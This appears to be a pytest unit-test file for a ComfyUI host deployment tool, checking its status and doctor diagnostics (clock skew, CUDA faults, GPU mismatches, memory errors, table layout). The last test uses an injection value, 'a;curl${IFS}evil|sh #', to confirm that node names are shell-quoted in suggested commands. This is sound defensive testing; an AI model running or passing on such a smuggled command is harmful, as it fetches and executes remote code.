"""What status and doctor make of what was seen; on a booted host each fault is made for real (tests/host)."""

from __future__ import annotations

import dataclasses
from dataclasses import replace
from datetime import UTC, datetime

import msgspec
import pytest

from agent.schema.facts import Busy, Ended
from agent.schema.live import ComfyUI, Device, Disk, GpuState, Live, Mps, Probe
from agent.schema.survey import Installation, Survey
from core.errors import ConnectError, NoInstallationError
from deploy.adopt import only
from deploy.facts import Facts
from ops import doctor, status
from ops.checks import CHECKS, Case
from ops.fleet import Answer
from tests.unit.test_gpu import PROCESS, sample
from tests.unit.test_plan import made, settled, shelf, spark

NOW = 1_000_000.0
SERVES = ComfyUI("answers", version="1.2.3", torch="2.11.0")
WELL = Live(NOW, 3600, SERVES, {"MemTotal": 10**11, "MemAvailable": 10**11}, {"/opt/comfyui": Disk(10**11, 10**12)})
PROBE = Probe(synchronized=True, compiler="/usr/bin/cc", headers="/usr/include/Python.h",
              installed={"torch": "2.11.0"})  # fmt: skip


def seen(facts: Facts | None = None, live: Live = WELL, probe: Probe = PROBE) -> Case:
    facts = facts or settled()
    live = replace(live, comfyui=replace(live.comfyui, devices=(Device("GB10", "cuda"),)))
    return Case(spark(), facts, live, probe, shelf(), made(facts), NOW)


def found(case: Case) -> dict[str, str]:
    return {each.check: each.what for each in doctor.judge(case)}


def test_all_is_well() -> None:
    assert found(seen()) == {}
    assert status.judge(spark(), settled(), WELL, made(settled())).problems == ()


@pytest.mark.parametrize(("off", "what"), [(-300.0, "5 min 00 s behind"), (90.0, "1 min 30 s ahead of")])
def test_a_clock_that_is_wrong(off: float, what: str) -> None:
    case = seen(live=replace(WELL, time=NOW + off))
    assert found(case) == {"clock": f"its clock is {what} this machine's"}


def test_torch_is_asked_when_comfyui_does_not_answer() -> None:
    stopped = replace(settled(), service=replace(settled().service, active=False))
    live = replace(WELL, comfyui=ComfyUI("closed"))
    case = seen(stopped, live, replace(PROBE, torch={"fault": "CUDA driver initialization failed"}))
    assert found(case)["cuda"] == "torch cannot use CUDA: CUDA driver initialization failed"


def test_a_gpu_of_another_kind_than_the_kernels_are_for() -> None:
    other = replace(settled().gpus[0], capability="8.9", unified=False)
    case = seen(replace(settled(), gpus=(other,)))
    assert "was built for 12.1, and the GPU is 8.9" in found(case)["kernels"]


@pytest.mark.parametrize(
    ("live", "what"),
    [
        (replace(WELL, uptime=5, comfyui=ComfyUI("closed")), "ComfyUI is starting, since 5 s"),
        (replace(WELL, comfyui=ComfyUI("closed")), "ComfyUI is not reached"),
        (replace(WELL, comfyui=ComfyUI("silent", "timed out")), "does not answer: timed out"),
    ],
)
def test_what_status_says_of_a_comfyui_that_is_not_there(live: Live, what: str) -> None:
    (problem,) = status.judge(spark(), settled(), live, made(settled())).problems
    assert what in problem.what
    assert problem.remedy == "inv logs --host spark"


def test_a_gpu_that_is_shared_on_purpose_is_none_to_warn_of() -> None:
    gpu = msgspec.convert(
        {**sample("h200")["gpus"][0], "processes": [{**PROCESS, "bytes": None, "kind": "compute"}]}, GpuState
    )
    case = seen(live=replace(WELL, gpus=(gpu,)))
    assert found(case)["gpu-shared"].startswith("GPU 0 is used by others: python3.12 main.py (pid 4242")
    shared = dataclasses.replace(case, target=spark(modes=("shared-gpu",)))
    through_mps = dataclasses.replace(case, probe=replace(PROBE, mps=Mps(True, state="active")))
    assert "gpu-shared" not in found(shared) | found(through_mps)


def test_drift_is_what_a_deploy_would_change() -> None:
    altered = replace(settled(), altered=(settled().current,))
    judged = status.judge(spark(), altered, WELL, made(altered))
    assert judged.drift
    assert judged.drift == tuple(step.title for step in made(altered).steps)
    assert any(problem.what.startswith(f"a deploy would {judged.drift[0]}") for problem in judged.problems)


def test_a_failed_last_run_and_one_under_way() -> None:
    last = Ended(action="deploy", at="now", result="reverted", error="no picture")
    busy = Busy(action="deploy", who="anna", alive=True, run="1", since="now")
    facts = replace(settled(), last=last, busy=busy)
    told = [problem.what for problem in status.judge(spark(), facts, WELL, made(facts)).problems]
    assert told == ["the last deploy (now) reverted: no picture", "the host is being changed: deploy by anna since now"]


def test_the_tables_of_status_are_100_columns_wide_at_most() -> None:
    widest = "7" * 400
    gpu = msgspec.convert({**sample("h200")["gpus"][0], "name": "NVIDIA RTX PRO 6000 Blackwell"}, GpuState)
    facts = replace(
        settled(),
        deployed={"at": "2026-01-01T00:00:00Z", "result": "reverted"},
        service=replace(settled().service, restarts=12345),
    )
    live = replace(
        WELL,
        time=datetime(2026, 4, 11, tzinfo=UTC).timestamp(),
        comfyui=replace(SERVES, version="0.100.10", pending=12345),
        disks={"/opt/comfyui": Disk(9 * 10**12, 10**13)},
        gpus=(gpu, gpu),
    )
    well = status.Status(widest, facts, live, tuple(widest), ())
    answers = [Answer(widest, well), Answer(widest, None, ConnectError(f"{widest} cannot be reached"))]
    services, machines, _ = "\n".join(status._lines(answers)).split("\n\n")
    assert all(len(line) <= 100 for line in f"{services}\n{machines}".splitlines())
    assert "serves  " in services
    assert "reverted, 100 d" in services
    assert services.splitlines()[2].split() == ["7" * 16, "not", "reached", *["-"] * 7]
    assert machines.splitlines()[2].split()[1:4] == ["RTX", "PRO", "6000"]
    assert machines.splitlines()[2].endswith("100.0 GB  9000.0 GB")


GUIDES = {  # the rows of both guides' chapters on troubleshooting, in the words of their headings
    "Spark guide": (
        "sageattention", "GPU architecture", "build tools", "service won't start", "port 8188", "Python import errors",
        "permission errors", "NFS symlinks", "virtual environment", "PyTorch wrong version", "GPU not detected",
    ),
    "Debian guide": (
        "CUDA out of memory", "GPU not detected in container", "performance degradation", "memory fragmentation",
        "context conflicts", "driver instability", "system resource exhaustion", "port conflicts",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("guide", "row"), [(guide, row) for guide, rows in GUIDES.items() for row in rows])
def test_every_row_of_the_guides_has_a_check(guide: str, row: str) -> None:
    cases = [case for check in CHECKS for case in check.cases]
    assert any(case.startswith(f"{guide}: ") and row.lower() in case.lower() for case in cases)


def test_the_page_is_todays() -> None:
    """Written anew with: python -m ops.doctor."""
    assert doctor.PAGE.read_text() == doctor.page()
    assert len({check.name for check in CHECKS}) == len(CHECKS)


def test_this_machine_is_looked_at_for_builds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("core.shell.which", lambda _: None)
    told = {each.what for each in doctor.workbench()}
    assert {"git is not installed", "uv is not installed"} <= told
    assert any("there is no C++ compiler" in what or "no aarch64" in what for what in told), told


def test_memory_in_pieces_names_the_mode_that_may_help() -> None:
    line = "torch.OutOfMemoryError: CUDA out of memory. 5.10 GiB is reserved by PyTorch but unallocated."
    (told,) = doctor.judge(seen(probe=replace(PROBE, log=((NOW, line),))))
    assert told.check == "out-of-memory"
    assert 'modes = ["low-memory"]' in told.remedy
    assert '5.10 GiB are in pieces too small to use: modes = ["native-allocator"]' in told.remedy


def test_what_others_name_is_quoted_in_commands() -> None:
    name = "a;curl${IFS}evil|sh #"
    case = seen(replace(settled(), failed_nodes={name: "x"}))
    (node,) = [each for each in doctor.judge(case) if each.check == "nodes"]
    assert node.remedy.startswith(f"inv nodes.update '{name}'; ")
    found = [
        Installation(path, "", "", "", None, "", "", "", {}, "", (), (), (), (), False) for path in ("/a; b", "/c")
    ]
    with pytest.raises(NoInstallationError) as raised:
        only(Survey((), tuple(found)), "spark")
    assert raised.value.hint == "choose one: --path '/a; b'"
